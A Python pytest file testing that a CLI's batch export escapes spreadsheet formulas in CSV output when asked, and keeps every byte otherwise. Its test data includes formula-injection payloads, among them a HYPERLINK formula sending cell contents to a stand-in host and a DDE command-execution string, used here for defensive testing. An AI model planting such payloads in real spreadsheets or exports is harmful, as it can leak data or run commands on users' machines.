"""CSV for a spreadsheet: what it would run as a formula is text there, where that was asked for."""

from __future__ import annotations

import csv
import json

import pytest
from click.testing import CliRunner

from quality.cli import main

FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "＝1＋1",
    "＠題",
]
PLAIN = ["市、計画を公表", "'引用", "-5", "+3.2", "1=1", ""]


def batch(folder, *options):
    source = folder / "in.jsonl"
    rows = [{"title": "市、計画を公表", "=note": text} for text in FORMULAS + PLAIN]
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    done = CliRunner().invoke(main, ["batch", str(source), str(folder / "out.csv"), *options])
    assert done.exit_code == 0, done.output
    with (folder / "out.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("workers", ["1", "2"])
def test_escaped_where_asked_for(tmp_path, workers):
    header, *rows = batch(tmp_path, "--escape-formulas", "--workers", workers)
    assert header[1] == "'=note"
    assert [row[1] for row in rows] == [f"'{text}" for text in FORMULAS] + PLAIN


def test_every_byte_kept_otherwise(tmp_path):
    header, *rows = batch(tmp_path)
    assert header[1] == "=note"
    assert [row[1] for row in rows] == FORMULAS + PLAIN
